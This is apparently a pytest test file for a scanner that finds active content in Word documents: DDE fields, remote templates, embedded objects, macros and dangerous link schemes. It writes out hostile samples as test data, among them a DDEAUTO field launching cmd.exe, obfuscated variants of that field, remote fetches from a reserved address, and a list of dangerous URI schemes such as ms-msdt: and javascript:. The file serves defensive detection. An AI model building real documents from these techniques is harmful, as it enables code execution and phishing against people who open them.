"""What a Word file runs, fetches or carries: every spelling is found, once, at its place."""

import pytest

from generator.ooxml.active_content import ActiveKind, find_active_content
from generator.ooxml.archive import pack
from generator.ooxml.package import Package
from generator.ooxml.xml import NAMESPACES

MAIN = "word/document.xml"
W = (
    " ".join(f'xmlns:{key}="{NAMESPACES[key]}"' for key in ("w", "r", "a", "wp", "mc"))
    + ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
OFFICE = NAMESPACES["r"]


def package(parts):
    """Return a package of parts; only what stands within their roots is given."""
    members = []
    for name, inner in parts.items():
        if name.endswith(".rels"):
            text = f'<Relationships xmlns="{NAMESPACES["rel"]}">{inner}</Relationships>'
        else:
            text = f"<w:document {W}><w:body>{inner}</w:body></w:document>"
        members.append(pack(name, text.encode()))
    return Package(members, "a.docx")


def found(parts):
    return [
        (each.kind.value, each.part, each.paragraph, each.target)
        for each in find_active_content(package(parts))
    ]


def rel(kind, target, mode="External", key="r1", space=OFFICE):
    mode = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="{key}" Type="{space}/{kind}" Target="{target}"{mode}/>'


def p(*runs):
    return f"<w:p>{''.join(runs)}</w:p>"


def r(inner):
    return f"<w:r>{inner}</w:r>"


def char(kind):
    return r(f'<w:fldChar w:fldCharType="{kind}"/>')


def code(text, tag="instrText"):
    return r(f'<w:{tag} xml:space="preserve">{text}</w:{tag}>')


def field(*codes):
    return char("begin") + "".join(codes) + char("separate") + r("<w:t>x</w:t>") + char("end")


COMMAND = r"c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;"
FIELDS = {
    "DDEAUTO": field(code(f" DDEAUTO {COMMAND} ")),
    "DDE": field(code(f" DDE {COMMAND} ")),
    "small letters": field(code(f"ddeAuto {COMMAND}")),
    "no blank": field(code("DDEAUTO&quot;c:\\x&quot;")),
    "over runs": field(code("D"), code("DEA"), code("UTO "), code(COMMAND)),
    "no result": char("begin") + code(f"DDEAUTO {COMMAND}") + char("end"),
    "never ended": char("begin") + code(f"DDEAUTO {COMMAND}"),
    "no field marks": code(f"DDEAUTO {COMMAND}"),
    "deleted with tracking": field(code(f"DDEAUTO {COMMAND}", "delInstrText")),
    "letters without width": field(code(f"DDE\u200bAUTO {COMMAND}")),
    "fullwidth": field(code(f"ＤＤＥＡＵＴＯ {COMMAND}")),
    "simple": f'<w:fldSimple w:instr=" DDEAUTO {COMMAND} "><w:r/></w:fldSimple>',
    "within another": field(code("IF 1 = 1 "), field(code(f"DDEAUTO {COMMAND}"))),
    "in the result of another": char("begin") + code("PAGE") + char("separate")
    + field(code(f"DDEAUTO {COMMAND}")) + char("end"),
    "name made by another": field(field(code("QUOTE 68 68 69 65 85 84 79")), code(f" {COMMAND}")),
    "name partly made by another": field(code("DDE"), field(code("QUOTE 65 85 84 79"))),
    "name made by a simple one": char("begin") + code(" ")
    + '<w:fldSimple w:instr="QUOTE 68"/>' + code(" x") + char("end"),
    "INCLUDETEXT": field(code("INCLUDETEXT &quot;http://192.0.2.1/x.docx&quot;")),
    "INCLUDEPICTURE": field(code("INCLUDEPICTURE http://192.0.2.1/x.png \\d")),
    "INCLUDE": field(code("INCLUDE x.docx")),
    "IMPORT": field(code("IMPORT http://192.0.2.1/x.png")),
    "LINK": field(code(r"LINK Excel.Sheet.12 \\192.0.2.1\a.xlsx")),
    "DATABASE": field(code("DATABASE \\d x")),
    "RD": field(code(r"RD \\192.0.2.1\a.docx")),
    "MACROBUTTON": field(code("MACROBUTTON Chay Bấm vào đây")),
}  # fmt: skip


@pytest.mark.parametrize("case", FIELDS)
@pytest.mark.parametrize(
    "part",
    [MAIN, "word/header1.xml", "word/footer2.xml", "word/footnotes.xml", "word/comments.xml",
     "word/glossary/document.xml"],
)  # fmt: skip
def test_a_field_that_runs_or_fetches_is_found_at_its_paragraph(case, part):
    parts = {MAIN: p(), part: p(r("<w:t>a</w:t>")) + p(FIELDS[case])}

    (one,) = find_active_content(package(parts))

    assert (one.kind, one.part, one.paragraph) == (ActiveKind.FIELD, part, 2)


def test_a_field_over_two_paragraphs_is_one_at_the_first():
    body = p(char("begin"), code("DDE")) + p(code("AUTO x"), char("end"))

    assert found({MAIN: body}) == [("field", MAIN, 1, "DDEAUTO x")]


def test_a_field_in_a_text_box_is_at_the_paragraph_of_the_box():
    inner = f"<w:txbxContent>{p(field(code('DDEAUTO x')))}</w:txbxContent>"
    box = f"<mc:AlternateContent><mc:Choice>{inner}</mc:Choice></mc:AlternateContent>"

    assert found({MAIN: p(r(box))}) == [("field", MAIN, 2, "DDEAUTO x")]


def test_a_paragraph_with_the_same_field_twice_tells_it_once():
    assert len(found({MAIN: p(field(code("DDEAUTO x")), field(code("DDEAUTO x")))})) == 1


@pytest.mark.parametrize(
    "words",
    ["PAGE", "NUMPAGES \\* MERGEFORMAT", "TOC \\o &quot;1-3&quot; \\h", "REF _Ref1 \\h",
     "PAGEREF a", "HYPERLINK \\l &quot;muc1&quot;", "HYPERLINK &quot;https://caobang.gov.vn&quot;",
     "HYPERLINK &quot;mailto:a@b.vn&quot;", "DATE \\@ &quot;dd/MM/yyyy&quot;", "SEQ Bang",
     "FORMTEXT", "MERGEFIELD ten", "= SUM(ABOVE)", "ADDIN ZOTERO_ITEM CSL_CITATION {}",
     "LINKS x", "IMPORTANT", "EQ \\f(1;2)", "STYLEREF 1", "AUTHOR", "", " "],
)  # fmt: skip
def test_an_ordinary_field_is_left_alone(words):
    assert found({MAIN: p(field(code(words)))}) == []


def test_a_sum_with_a_field_in_it_is_left_alone():
    assert found({MAIN: p(field(code("="), field(code("PAGE")), code("-1")))}) == []


def test_the_words_of_fields_as_text_are_left_alone():
    assert found({MAIN: p(r("<w:t>DDEAUTO INCLUDETEXT LINK</w:t>"))}) == []


RELS = "word/_rels/document.xml.rels"
USES = p() + p(r('<w:x r:id="r1"/>'))


@pytest.mark.parametrize(
    "relation",
    [
        rel("image", "http://192.0.2.1/x.png"),
        rel("image", "HTTP://192.0.2.1/x.png"),
        rel("image", r"\\192.0.2.1\x.png"),
        rel("image", "file://192.0.2.1/x.png"),
        rel("image", "//192.0.2.1/x.png"),
        rel("image", "http://192.0.2.1/x.png", mode="external"),
        rel("image", "http://192.0.2.1/x.png", mode=""),
        rel("image", "http://192.0.2.1/x", space="http://purl.oclc.org/ooxml/officeDocument/r"),
        rel("oleObject", "file:///c:/x.xlsx"),
        rel("subDocument", "x.docx"),
        rel("frame", "http://192.0.2.1/x.html"),
        rel("mailMergeSource", "file:///c:/x.mdb"),
        rel("attachedTemplate", "http://192.0.2.1/x.dotm"),
        rel("attachedTemplate", r"\\192.0.2.1\x.dotm"),
        rel("attachedTemplate", "file://192.0.2.1/x.dotm"),
        rel("video", "http://192.0.2.1/x.mp4"),
        rel("aFChunk", "http://192.0.2.1/x.html"),
        rel("madeUp", "http://192.0.2.1/x"),
    ],
)
def test_content_outside_the_file_is_found_where_it_is_used(relation):
    (one,) = find_active_content(package({MAIN: USES, RELS: relation}))

    assert (one.kind, one.part, one.paragraph) == (ActiveKind.REMOTE, MAIN, 2)
    assert not one.harmless


def test_a_template_on_the_authors_machine_is_harmless():
    target = "file:///C:/Users/lan/AppData/Roaming/Microsoft/Templates/Normal.dotx"
    parts = {MAIN: p(), "word/_rels/settings.xml.rels": rel("attachedTemplate", target)}

    (one,) = find_active_content(package(parts))

    assert (one.kind, one.harmless, one.part) == (ActiveKind.REMOTE, True, "word/settings.xml")


@pytest.mark.parametrize(
    "relation",
    [
        rel("oleObject", "embeddings/oleObject1.bin", mode=""),
        rel("package", "embeddings/x.bin", mode=""),
        rel("control", "activeX/activeX1.xml", mode=""),
        rel("aFChunk", "chunk.html", mode=""),
        rel("subDocument", "part2.docx", mode=""),
        rel("attachedToolbars", "attachedToolbars.bin", mode=""),
        rel("keyMapCustomizations", "customizations.xml", mode=""),
        rel("extensibility", "customUI.xml", mode="", space="http://schemas.microsoft.com/ui"),
        rel("webextension", "webextension1.xml", mode="", space="http://schemas.microsoft.com/11"),
        rel("vbaProject", "vbaProject.bin", mode="Internal", space="http://schemas.microsoft.com"),
    ],
)
def test_an_object_of_another_program_is_found(relation):
    (one,) = find_active_content(package({MAIN: USES, RELS: relation}))

    assert (one.kind, one.paragraph, one.harmless) == (ActiveKind.EMBEDDED, 2, False)


def test_the_numbers_of_a_chart_are_no_object():
    numbers = rel("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", mode="")
    parts = {MAIN: p(), "word/charts/_rels/chart1.xml.rels": numbers}

    assert found(parts) == []


DANGEROUS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java&#9;script:alert(1)",
    "java&#10;script:x", "\u200bjavascript:x", "vbscript:x", "data:text/html,x", "file:///c:/x.exe",
    r"\\192.0.2.1\share\x", "//192.0.2.1/x", "file://192.0.2.1/share", "file:////192.0.2.1/share",
    "ms-word:ofe|u|http://192.0.2.1/x", "search-ms:query=x", "ms-msdt:/id", "ftp://192.0.2.1/x",
    "smb://192.0.2.1/x", "mhtml:http://192.0.2.1/x", "c:\\x.bat", "chay.vbs", "a.lnk#x",
)  # fmt: skip


@pytest.mark.parametrize("target", DANGEROUS)
@pytest.mark.parametrize("way", ["relationship", "field", "shape"])
def test_a_link_that_is_no_web_page_is_found(target, way):
    words = target.replace("\\", "\\\\") if way == "field" else target
    parts = {
        "relationship": {MAIN: USES, RELS: rel("hyperlink", target)},
        "field": {MAIN: p() + p(field(code(f"HYPERLINK &quot;{words}&quot; \\o x")))},
        "shape": {MAIN: p() + p(r(f'<v:shape href="{target}"/>'))},
    }[way]

    (one,) = find_active_content(package(parts))

    assert (one.kind, one.part, one.paragraph) == (ActiveKind.LINK, MAIN, 2)
    assert not one.harmless


@pytest.mark.parametrize(
    "target",
    ["http://caobang.gov.vn", "HTTPS://caobang.gov.vn/a:b?c=javascript:x", "mailto:a@b.vn",
     "tel:+84123", "#muc1", ""],
)  # fmt: skip
def test_a_link_to_a_page_or_an_address_is_left_alone(target):
    assert found({MAIN: USES, RELS: rel("hyperlink", target)}) == []


@pytest.mark.parametrize(
    "target", ["phu-luc.docx", "../a/b.pdf", "file:///C:/a/b.docx", "C:\\a.doc"]
)
def test_a_link_to_a_document_beside_the_file_does_no_harm(target):
    (one,) = find_active_content(package({MAIN: USES, RELS: rel("hyperlink", target)}))

    assert (one.kind, one.harmless) == (ActiveKind.LINK, True)


@pytest.mark.parametrize(
    "inner",
    [
        '<v:imagedata src="http://192.0.2.1/x.png"/>',
        r'<v:imagedata o:href="\\192.0.2.1\x.png"/>',
        '<v:fill src="http://192.0.2.1/x.png"/>',
        '<w:video embeddedHtml="&lt;iframe src=x&gt;"/>',
    ],
)
def test_a_picture_named_in_an_attribute_is_found(inner):
    (one,) = find_active_content(package({MAIN: p() + p(r(inner))}))

    assert (one.kind, one.paragraph) == (ActiveKind.REMOTE, 2)


def test_a_source_of_mail_merge_is_found_without_a_relationship():
    merge = '<w:mailMerge><w:connectString w:val="DSN=x"/><w:query w:val="SELECT"/></w:mailMerge>'

    assert found({"word/settings.xml": merge}) == [
        ("remote", "word/settings.xml", 0, "DSN=x; SELECT")
    ]


def test_a_part_that_cannot_be_read_is_said():
    broken = Package([pack(MAIN, b"<w:document")], "a.docx")

    assert [each.part for each in find_active_content(broken)] == [MAIN]
